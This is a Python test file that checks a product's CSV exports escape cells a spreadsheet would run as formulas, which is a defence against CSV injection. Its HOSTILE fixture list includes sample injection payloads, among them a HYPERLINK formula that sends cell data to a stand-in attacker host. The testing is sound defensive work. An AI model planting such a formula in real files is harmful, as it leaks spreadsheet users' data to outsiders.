"""Every CSV the product writes neutralises cells a spreadsheet would run as a formula (OWASP's
advice for CSV injection): `eval --csv` and the Evaluation page's downloads."""

from __future__ import annotations

import csv
import io
import json

import pytest

from nemori_ui.cli import main
from nemori_ui.core.csv_cells import FORMULA_START, csv_text, neutralise
from nemori_ui.core.eval import results
from tests.conftest import ROOT

SMALL = ROOT / "tests" / "fixtures" / "transcripts" / "locomo_small.json"
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1, "click")', "+1+2", "-2+3*cmd",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain text", " =leading space is text", "a=b", 0.5, -0.25,
                                   3, None, ""])
def test_other_cells_are_kept(value):
    assert neutralise(value) == value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_text_round_trips_the_text_behind_the_quote():
    rows = cells(csv_text(["=col"], [[h] for h in HOSTILE] + [[-0.5]]))
    assert rows[0] == ["'=col"]
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[-1] == ["-0.5"], "a number the product computed stays a number"


def hostile_locomo(tmp_path):
    doc = json.loads(SMALL.read_text())
    sample = doc[0] if isinstance(doc, list) else doc
    sample["qa"] = [{"question": HOSTILE[0], "answer": "@SUM(A1:A9)", "evidence": ["D1:1"],
                     "category": 4},
                    {"question": "+1+2 what did Ana adopt?", "answer": "-a puppy",
                     "evidence": ["D1:1"], "category": 4}]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps([sample]))
    return path


def test_eval_csv_and_the_page_download_hold_no_formula(tmp_path, capsys):
    home, out = tmp_path / "home", tmp_path / "out.csv"
    assert main(["eval", "locomo", str(hostile_locomo(tmp_path)), "--csv", str(out),
                 "--home", str(home)]) == 0
    written = cells(out.read_text(encoding="utf-8"))
    assert len(written) == 3
    for row in written:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"formula cell {cell!r} in {row}"
    header = written[0]
    question, gold = header.index("question"), header.index("gold")
    assert [r[question] for r in written[1:]] == ["'" + HOSTILE[0], "'+1+2 what did Ana adopt?"]
    assert [r[gold] for r in written[1:]] == ["'@SUM(A1:A9)", "'-a puppy"]

    # the Evaluation page's two downloads are these same writers
    from nemori_ui.core.store import open_store
    store = open_store(home)
    [run] = results.list_evals(store)
    for text in (results.questions_csv(run, results.load_questions(store, run.id)),
                 results.summary_csv([run])):
        for row in cells(text):
            assert not any(c.startswith(FORMULA_START) for c in row), row
